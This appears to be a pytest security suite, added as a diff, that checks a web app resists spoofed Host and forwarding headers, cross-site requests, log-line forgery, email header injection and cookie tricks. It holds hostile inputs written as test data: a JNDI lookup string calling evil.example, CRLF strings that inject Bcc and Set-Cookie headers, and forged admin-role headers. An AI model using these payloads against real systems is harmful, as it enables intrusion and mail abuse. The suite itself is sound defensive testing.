@@ -1,0 +1,291 @@
+"""Headers that claim: another address, another host, another method, another site, a line more."""
+
+import email
+import email.policy
+import json
+import re
+
+import pytest
+import requests
+
+from app import ROOMS
+from tests.attacks.crowds import said, send_raw
+from tests.attacks.test_guessing import CLAIMS
+from tests.colleagues import hold_account
+from tests.people import COOKIE, PASSWORD, Person
+from tests.seasons import EVENT, a_registration, hold_registrations
+from tests.stages import PUBLIC_URL, environment
+
+EVIL = "evil.example"
+HOSTS = {
+    "Host": EVIL,
+    "X-Forwarded-Host": EVIL,
+    "X-Host": EVIL,
+    "X-Forwarded-Server": EVIL,
+    "X-HTTP-Host-Override": EVIL,
+    "X-Original-Host": EVIL,
+    "X-Forwarded-Proto": "http",
+    "X-Forwarded-Port": "80",
+    "X-Forwarded-Prefix": "//evil.example",
+    "X-Forwarded-Scheme": "http",
+    "Forwarded": f"host={EVIL};proto=http",
+    "Referer": f"https://{EVIL}/",
+}
+CHANGING = [a for room in ROOMS for a in room.actions if a.method != "GET"]
+FORGERIES = {
+    "a line": 'a\\n{"event": "signed_in"}',
+    "an escape": "a\x1b[2J",
+    "C1": "a\x9b2J",
+    "DEL": "a\x7f",
+    "a tab": "a\tb",
+    "quotes": 'a", "event": "signed_in", "x": "',
+    "percent": "a%0d%0a{}",
+    "format": "{0.__class__} %s ${jndi:ldap://evil.example/a}",
+}
+
+
+def underscored(headers):
+    return {name.replace("-", "_"): value for name, value in headers.items()}
+
+
+# Addresses.
+
+
+@pytest.mark.parametrize("name", [*CLAIMS, "Forwarded"])
+def test_no_header_makes_another_address(river, name, capsys):
+    other = river.elsewhere()
+    value = "for=203.0.113.9" if name == "Forwarded" else "203.0.113.9"
+    capsys.readouterr()
+    body = {"username": "river", "password": PASSWORD}
+    assert other.post("/signin", body, **{name: value}).status == 200
+
+    assert "203.0.113.9" not in capsys.readouterr().out
+    assert {s["address"] for s in other.get("/sessions").json["items"]} == {"127.0.0.1"}
+
+
+# Hosts.
+
+
+@pytest.mark.parametrize("name", HOSTS)
+def test_no_header_says_where_a_link_leads(sue, name):
+    body = {"firstName": "New", "lastName": "Comer"}
+    made = sue.post("/admin/users", body, **underscored({name: HOSTS[name]})).json
+    reset = sue.post(f"/admin/users/{made['id']}/password-reset", **underscored(HOSTS)).json
+
+    for link in (made["link"], reset["link"]):
+        assert re.fullmatch(rf"{re.escape(PUBLIC_URL)}/reset#token=[\w-]{{43}}", link)
+
+
+def test_no_header_gets_into_a_mail(sue, tmp_path):
+    hold_account("mo", id="mo", email="mo@example.com", email_verified=True)
+    here = {"PUBLIC_URL": "http://localhost:8000", "MAIL_FROM": None, "MAIL_FOLDER": str(tmp_path)}
+    with environment(**here):
+        assert sue.post("/admin/users/mo/password-reset", **underscored(HOSTS)).status == 200
+
+    [mail] = tmp_path.iterdir()
+    assert EVIL.encode() not in mail.read_bytes()
+    assert b"http://localhost:8000/reset#token=" in mail.read_bytes()
+
+
+def test_no_header_changes_an_answer(river, event):
+    for path in ("/me", "/events", "/docs", "/openapi.json", "/nowhere", "/health"):
+        assert said(river.get(path, **underscored(HOSTS))) == said(river.get(path))
+
+
+def test_no_header_takes_secure_off_the_cookie(river):
+    reply = river.post("/signin", {"username": "river", "password": PASSWORD}, **underscored(HOSTS))
+
+    assert reply.status == 200
+    for line in reply.set_cookies:
+        assert {"Secure", "HttpOnly", "SameSite=Lax", "Path=/"} <= set(line.split("; "))
+        assert "Domain" not in line
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        {"X-HTTP-Method-Override": "DELETE", "X-HTTP-Method": "DELETE", "X-Method-Override": "PUT"},
+        {"X-Original-URL": "/admin/users", "X-Rewrite-URL": "/admin/users"},
+        {"X-Role": "SuperAdmin", "X-User-Id": "#super-admins", "X-Admin": "true"},
+        {"Authorization": "Basic c3VlOmZvdXI=", "X-Api-Key": "a", "X-Amzn-Trace-Id": "a"},
+    ],
+    ids=lambda override: next(iter(override)),
+)
+def test_no_header_makes_it_another_request(river, backend, override):
+    before = backend.everything()
+
+    assert said(river.get("/me", **underscored(override))) == said(river.get("/me"))
+    assert said(river.post("/me", {}, **underscored(override))) == said(river.post("/me", {}))
+    assert backend.everything() == before
+
+
+def test_a_page_of_another_origin_is_told_nothing(url, river):
+    sent = {"Origin": f"https://{EVIL}", "Access-Control-Request-Method": "DELETE"}
+    with environment(FRONT_END_ORIGIN="https://front.example"):
+        for method in ("GET", "POST", "OPTIONS"):
+            got = requests.request(method, f"{url}/me", headers=sent, timeout=30)
+            assert EVIL not in str(got.headers)
+            assert got.headers.get("Access-Control-Allow-Origin") not in {"*", "null"}
+
+
+# Sites.
+
+
+SITES = [
+    {"Sec_Fetch_Site": "cross-site"},
+    {"Sec_Fetch_Site": "same-site"},
+    {"Sec_Fetch_Site": "cross-site", "Origin": f"https://{EVIL}"},
+    {"Sec_Fetch_Site": "cross-site", "Origin": "null"},
+    {"Sec_Fetch_Site": "same-site", "Origin": f"https://{EVIL}.lakes.example"},
+    {"Sec_Fetch_Site": "same-origin, cross-site", "Origin": f"https://{EVIL}"},
+    {"Origin": f"https://{EVIL}"},
+    {"Origin": "null"},
+    {"Origin": f"{PUBLIC_URL}.{EVIL}"},
+    {"Origin": f"https://{EVIL}", "Referer": f"{PUBLIC_URL}/", "Host": "lakes.example"},
+]
+CONTENT_TYPES = [
+    "application/json",
+    "text/plain",
+    "application/x-www-form-urlencoded",
+    "multipart/form-data; boundary=a",
+    "application/octet-stream",
+    None,
+]
+
+
+@pytest.mark.parametrize("action", CHANGING, ids=lambda a: f"{a.method} {a.path}")
+def test_no_other_site_changes_anything_in_any_content_type(sue, event, backend, action):
+    theirs = {"event_id": EVENT, "user_id": "somebody", "session_id": "current"}
+    path = action.path.format(**theirs)
+    before = backend.everything()
+
+    for sent in SITES:
+        for content_type in CONTENT_TYPES:
+            raw = b'{"username": "sue", "password": "four quiet lakes in May"}'
+            reply = sue.ask(action.method, path, raw=raw, content_type=content_type, **sent)
+            told = (reply.status, reply.code, reply.set_cookie)
+            assert told == (403, "cross_site", None), (sent, content_type)
+    assert backend.everything() == before
+    assert sue.token
+
+
+# Lines.
+
+
+@pytest.mark.parametrize("how", FORGERIES)
+@pytest.mark.parametrize(
+    "place", ["User-Agent", "X-Request-Id", "X-Amzn-Trace-Id", "Referer", "Cookie", "path", "query"]
+)
+def test_nothing_that_is_sent_forges_a_line_of_the_log(url, river, capsys, place, how):
+    text = FORGERIES[how].encode("latin-1")
+    target = b"/sessions/" + (text.replace(b" ", b"%20") if place == "path" else b"current")
+    target += b"?q=" + text.replace(b" ", b"%20") if place == "query" else b""
+    headers = [b"Host: here", b"Connection: close", b"Origin: https://evil.example"]
+    if place not in {"path", "query"}:
+        headers.append(place.encode() + b": " + text)
+    capsys.readouterr()
+
+    send_raw(url, b"\r\n".join([b"DELETE " + target + b" HTTP/1.1", *headers, b"", b""]))
+
+    for line in capsys.readouterr().out.splitlines():
+        assert line.isascii()
+        assert line.isprintable()
+        assert json.loads(line)["event"] == "refused"
+
+
+@pytest.mark.parametrize("name", ["username", "email", "firstName", "lastName"])
+@pytest.mark.parametrize("line_break", ["\r\n", "\n", "\r", "\u2028", "\u2029", "\x0b", "\x85"])
+@pytest.mark.parametrize("path", ["/signup", "/admin/users"])
+def test_no_name_and_no_address_brings_a_line_of_its_own(sue, name, line_break, path):
+    body = {"username": "river", "email": "r@example.com", "firstName": "R", "lastName": "O"}
+    body |= {"password": PASSWORD} if path == "/signup" else {}
+    body[name] = f"{body[name]}{line_break}Bcc: everybody@{EVIL}"
+
+    assert sue.post(path, body).fields == {name}
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "!#$%&'*+-/=?^_`{|}~@example.com",
+        "?utf-8?q?a=0d=0aBcc=3a?=b@example.com",
+        "%0d%0aBcc@example.com",
+        f"{'a' * 64}@{'b' * 60}.example.com",
+    ],
+)
+def test_the_oddest_address_is_one_recipient_and_no_header(sue, tmp_path, address):
+    hold_account("mo", id="mo", email=address, email_verified=True)
+    here = {"PUBLIC_URL": "http://localhost:8000", "MAIL_FROM": None, "MAIL_FOLDER": str(tmp_path)}
+    with environment(**here):
+        assert sue.post("/admin/users/mo/password-reset").json["link"] is None
+
+    [file] = tmp_path.iterdir()
+    mail = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
+    assert {"bcc", "cc"}.isdisjoint(name.lower() for name in mail)
+    assert len(mail.get_all("To")) == 1
+    assert len(mail["To"].addresses) == 1
+
+
+@pytest.mark.parametrize("path", ["/signup", "/admin/users"])
+@pytest.mark.parametrize(
+    "address",
+    [
+        "=?utf-8?q?everybody=40evil.example=3e?=@example.com",
+        "=?utf-8?q?a=0d=0aBcc=3a?=@example.com",
+        "a,everybody@evil.example",
+        "a@example.com,everybody@evil.example",
+        "a@example.com>,<everybody@evil.example",
+        "<a@example.com>",
+        "a@example.com (everybody@evil.example)",
+        '"a@evil.example"@example.com',
+        "a:b;@example.com",
+        "@evil.example:a@example.com",
+        "a@[127.0.0.1]",
+        "a@xn--\u00e9vil.example",
+    ],
+)
+def test_no_address_is_two_or_another_when_a_mailer_reads_it(sue, path, address):
+    body = {"username": "river", "email": address, "firstName": "R", "lastName": "O"}
+    body |= {"password": PASSWORD} if path == "/signup" else {}
+
+    assert sue.post(path, body).fields == {"email"}
+
+
+def test_no_query_brings_a_header_of_its_own(ada, event):
+    hold_registrations(*(a_registration(number) for number in range(3)))
+    query = "limit=1&lastName=Okafor%0d%0aSet-Cookie:%20a=b"
+    refused = ada.get(f"/admin/events/{EVENT}/registrations.csv?{query}")
+    reply = ada.get(f"/admin/events/{EVENT}/registrations.csv?limit=1&lastName=Okafor")
+
+    for one in (refused, reply):
+        assert one.set_cookie is None
+    assert re.fullmatch(r'<\?[\w=&.%-]+>; rel="next"', reply.headers["Link"])
+
+
+# Cookies.
+
+
+def test_two_sessions_in_one_request_are_none(river, sky):
+    for first, second in [(river, sky), (sky, river), (river, river)]:
+        both = f"{COOKIE}={first.token}; {COOKIE}={second.token}"
+        assert Person(river.client).get("/me", Cookie=both).status == 401
+
+
+@pytest.mark.parametrize("length", [5_000, 60_000])
+def test_a_cookie_without_end_is_no_session_and_no_fault(river, length):
+    for cookie in (
+        f"{COOKIE}={'a' * length}",
+        f"{COOKIE}={'.' * length}",
+        f"{COOKIE}={river.token}{'a' * length}",
+        "; ".join(f"{COOKIE}=a" for _ in range(length // 40)),
+    ):
+        assert Person(river.client).get("/me", Cookie=cookie).status in {401, 431}
+
+
+@pytest.mark.parametrize("prefix", ["", " ", "\t", "$", "__Host-", "__Secure-"])
+@pytest.mark.parametrize("suffix", ["", " ", ".", "[]", "%00"])
+def test_no_other_name_is_the_cookies(river, prefix, suffix):
+    named = f"{prefix}{COOKIE}{suffix}"
+    expected = 200 if named.strip() == COOKIE and not suffix else 401
+
+    assert river.get("/me", Cookie=f"a=b;{named}={river.token}").status == expected
